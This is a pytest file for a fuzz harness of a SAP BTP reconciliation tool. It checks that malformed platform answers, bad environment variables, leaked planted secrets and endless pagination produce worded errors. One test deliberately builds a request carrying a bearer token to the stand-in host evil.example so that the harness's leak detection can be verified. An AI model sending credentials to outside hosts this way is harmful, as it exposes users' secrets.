"""Whatever stands in specs, plan files, the environment and the platform's answers: an end in words, by the table.

Each case says by its number how it is made: `python -m tests.fuzz specs 417` runs one again, and shows all of it.
The long runs are behind `RECONCILE_SOAK=1`.
"""

from __future__ import annotations

import json
import os
from dataclasses import replace
from typing import TYPE_CHECKING, Any

import pytest
from requests import ConnectionError as RequestsConnectionError, Request

from btp_reconcile.core.errors import PlatformError
from btp_reconcile.edges.answers import NotJson, Reply, parsed
from btp_reconcile.edges.door import IDLE_PAGES, MOST_PAGES
from tests.edges.wire import API, SM, Rig, Said
from tests.fuzz import cases, scenes
from tests.fuzz.running import MOST_REQUESTS, PLANTED, Clock, Hangs, Wire, copied, run

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from requests import PreparedRequest

    from btp_reconcile.sandbox import Response
    from tests.commands import Desk
    from tests.edges.wire import Sent
    from tests.fuzz.running import Ran

SHORT = {"specs": (500, 50), "answers": (200, 20), "plans": (40, 20), "surroundings": (40, 20)}
"""Kind → (cases, cases of one test)."""
LONG = {
    "specs": (20_000, 1_000),
    "answers": (5_000, 250),
    "plans": (2_000, 250),
    "surroundings": (3_000, 250),
}
SOAK = pytest.mark.skipif(os.environ.get("RECONCILE_SOAK") != "1", reason="RECONCILE_SOAK=1 runs it")


def parts(sizes: dict[str, tuple[int, int]]) -> Iterator[tuple[str, int, int]]:
    for kind, (number, size) in sizes.items():
        for first in range(0, number, size):
            yield kind, first, first + size


def broken(kind: str, first: int, last: int, folder: Path) -> list[str]:
    """What broke a promise, by its number."""
    found = []
    for index in range(first, last):
        inside = folder / str(index)
        inside.mkdir()
        found += [
            f"python -m tests.fuzz {kind} {index}\n{ran}"
            for ran in cases.KINDS[kind](index, inside)
            if ran.broken
        ]
    return found


@pytest.mark.parametrize(("kind", "first", "last"), list(parts(SHORT)))
def test_every_end_is_in_words(kind: str, first: int, last: int, tmp_path: Path) -> None:
    assert "\n".join(broken(kind, first, last, tmp_path)) == ""


@pytest.mark.soak
@SOAK
@pytest.mark.parametrize(("kind", "first", "last"), list(parts(LONG)))
def test_every_end_is_in_words_for_long(kind: str, first: int, last: int, tmp_path: Path) -> None:
    assert "\n".join(broken(kind, first, last, tmp_path)) == ""


# --- the fuzzers see what they look for -----------------------------------------------------------------


def against(changed: Any, folder: Path, *more: str) -> Ran:
    """`plan` of what is in sync, against a platform whose answers are changed."""
    scene = scenes.SCENES["mixed, in sync"]
    sandbox = copied(scenes.maker(scene.world))
    (folder / "spec.yaml").write_text(scene.spec, encoding="utf-8")
    given = scenes.environment(sandbox)
    return run(
        ["plan", "spec.yaml", *more], folder=folder, sandbox=sandbox, environment=given, changed=changed
    )


def rows(request: PreparedRequest, answer: Response, **fields: Any) -> Response:
    """The answer with other fields in its rows, if it is a list of instances in Cloud Foundry."""
    if "/v3/service_instances?" not in str(request.url):
        return answer
    data = json.loads(answer.body)
    for row in data["resources"]:
        row.update(fields)
    return replace(answer, body=json.dumps(data).encode())


def test_a_changed_answer_arrives_as_it_was_changed(tmp_path: Path) -> None:
    untouched = against(lambda _, answer: answer, tmp_path)
    odd = against(lambda request, answer: rows(request, answer, tags=7), tmp_path)

    assert (untouched.code, untouched.broken) == (0, ())
    assert (odd.code, odd.broken) == (1, ())
    assert "has a number at tags, where a list of texts is due" in odd.out


def test_a_secret_that_is_shown_is_seen(tmp_path: Path) -> None:
    def leaks(request: PreparedRequest, answer: Response) -> Response:
        return rows(request, answer, tags=[PLANTED["PLANTED"]])

    assert against(leaks, tmp_path).broken == (f"it shows the secret {PLANTED['PLANTED']!r}",)


def test_a_credential_for_another_host_is_seen(tmp_path: Path) -> None:
    wire = Wire(copied(scenes.maker("mixed")))
    request = Request("GET", "https://evil.example/x", headers={"Authorization": "Bearer x"}).prepare()

    with pytest.raises(RequestsConnectionError):
        wire.send(request)

    assert wire.broken == ["a credential for GET https://evil.example/x"]


def test_waiting_and_asking_for_ever_is_seen() -> None:
    broken: list[str] = []
    wire = Wire(copied(scenes.maker("mixed")), count=MOST_REQUESTS)

    with pytest.raises(Hangs):
        Clock(0.0, broken).sleep(float("inf"))
    with pytest.raises(Hangs):
        wire.send(Request("GET", "https://api.cf.eu10.hana.ondemand.com/").prepare())

    assert broken == ["waits inf s at once"]
    assert wire.broken == [
        f"more than {MOST_REQUESTS} requests, last GET https://api.cf.eu10.hana.ondemand.com/"
    ]


# --- what was found -------------------------------------------------------------------------------------


def test_a_subaccount_that_changed_its_region_in_the_spec_is_told_so_in_a_rehearsal(desk: Desk) -> None:
    desk.run("plan", "--sandbox")
    moved = (
        (desk.folder / "specs/prod.yaml").read_text(encoding="utf-8").replace("region: eu10", "region: us10")
    )
    desk.write("specs/prod.yaml", moved)

    ended = desk.run("plan", "--sandbox")

    assert ended.code == 4
    assert "is in region eu10 and is called 'prod' there; the spec says us10" in ended.out


def test_a_list_whose_pages_bring_nothing_new_ends() -> None:
    def again(sent: Sent) -> Said:
        number = int(sent.query.get("page", "1")) + 1
        return Said(
            200, {"resources": [{"guid": "a"}], "pagination": {"next": {"href": f"{API}/v3/x?page={number}"}}}
        )

    rig = Rig(again)

    with pytest.raises(PlatformError, match="its pages lead in a circle"):
        list(rig.door().pages("/v3/x"))

    assert len(rig.sent) == 1 + IDLE_PAGES


def test_a_list_whose_pages_never_end_ends() -> None:
    def more(sent: Sent) -> Said:
        number = int(sent.query.get("token", "0")) + 1
        return Said(200, {"items": [{"id": str(number)}], "token": str(number)})

    rig = Rig(more)

    with pytest.raises(PlatformError, match="its pages lead in a circle"):
        list(rig.door("service_manager", SM).pages("/v1/x"))

    assert len(rig.sent) == MOST_PAGES


def test_a_next_page_that_cannot_be_asked_for_is_an_error_in_words() -> None:
    rig = Rig(Said(200, {"items": [{"id": "1"}], "token": "a" * 9000}))

    with pytest.raises(PlatformError, match="it names a next page that cannot be asked for"):
        list(rig.door("service_manager", SM).pages("/v1/x"))


def unusable(odd: str, *path: str) -> Callable[[PreparedRequest, Response], Response]:
    """The first row of a list in Cloud Foundry, with this text at a path."""

    def changed(request: PreparedRequest, answer: Response) -> Response:
        if "/v3/spaces?" not in str(request.url):
            return answer
        data = json.loads(answer.body)
        into = data["resources"][0]
        for step in path[:-1]:
            into = into[step]
        into[path[-1]] = odd
        return replace(answer, body=json.dumps(data).encode())

    return changed


def test_an_id_that_no_request_can_hold_is_an_answer_that_cannot_be_understood(tmp_path: Path) -> None:
    where = ("relationships", "organization", "data", "guid")
    ran = against(unusable("a" * 70_000, *where), tmp_path)

    assert (ran.code, ran.broken) == (1, ())
    assert "has 70,000 characters at relationships.organization.data.guid, too many to ask for it" in ran.out


@pytest.mark.parametrize("body", [b'{"a": ["\\ud83d", "\\ud83d\\ude00", 1], "\\uDC00": {}}'])
def test_half_a_character_in_an_answer_is_a_question_mark(body: bytes) -> None:
    assert parsed(Reply(200, {}, body)) == {"a": ["?", "😀", 1], "?": {}}


def test_an_answer_that_is_no_text_is_no_json() -> None:
    with pytest.raises(NotJson):
        parsed(Reply(200, {}, b'{"a": "\xed\xa0\x80"}'))


@pytest.mark.parametrize("name", ["CF_USER", "CF_PASSWORD", "PLANTED"])
@pytest.mark.parametrize("verb", [("plan",), ("apply", "--yes")])
def test_a_variable_that_is_no_text_is_said_to_be_none(
    name: str, verb: tuple[str, ...], tmp_path: Path
) -> None:
    ran = surrounded(tmp_path, scenes.MIXED, {name: "caf\udce9"}, *verb)

    assert (ran.code, ran.broken) == (3, ())
    assert f"the environment variable {name} holds bytes that are not UTF-8" in ran.err
    assert f"set {name} anew, as UTF-8  [input/not-text]" in ran.err


@pytest.mark.parametrize("name", ["CF_USER", "CF_PASSWORD"])
def test_a_variable_that_no_spec_names_is_looked_at_too(name: str, tmp_path: Path) -> None:
    login = '  cloud_foundry: {username: "${env:CF_USER}", password: "${env:CF_PASSWORD}"}\n'
    ran = surrounded(tmp_path, scenes.MIXED.replace(login, ""), {name: "caf\udce9"}, "plan")

    assert (ran.code, ran.broken) == (3, ())
    assert "access.cloud_foundry of subaccount two holds bytes that are not UTF-8" in ran.err


@pytest.mark.parametrize(
    ("part", "text", "said"),
    [
        ("clientid", "x\ud800", "access.service_manager of subaccount two holds bytes that are not UTF-8"),
        (
            "clientsecret",
            "x\ud800",
            "access.service_manager of subaccount two holds bytes that are not UTF-8",
        ),
        ("sm_url", "https://x.cloud.sap/" + "a" * 9000, "names an address of more than 1,000 characters"),
    ],
)
def test_a_key_that_no_request_can_hold_is_refused(part: str, text: str, said: str, tmp_path: Path) -> None:
    key = json.loads(scenes.environment(copied(scenes.maker("mixed")))["BTP_SERVICE_MANAGER_KEY"])
    ran = surrounded(
        tmp_path, scenes.MIXED, {"BTP_SERVICE_MANAGER_KEY": json.dumps({**key, part: text})}, "plan"
    )

    assert (ran.code, ran.broken) == (3, ())
    assert said in ran.err


def surrounded(folder: Path, spec: str, variables: dict[str, str], *arguments: str) -> Ran:
    """A command about what is in sync, with other variables."""
    sandbox = copied(scenes.maker("mixed"))
    (folder / "spec.yaml").write_text(spec, encoding="utf-8")
    given = {**scenes.environment(sandbox), **variables}
    return run([*arguments, "spec.yaml"], folder=folder, sandbox=sandbox, environment=given)
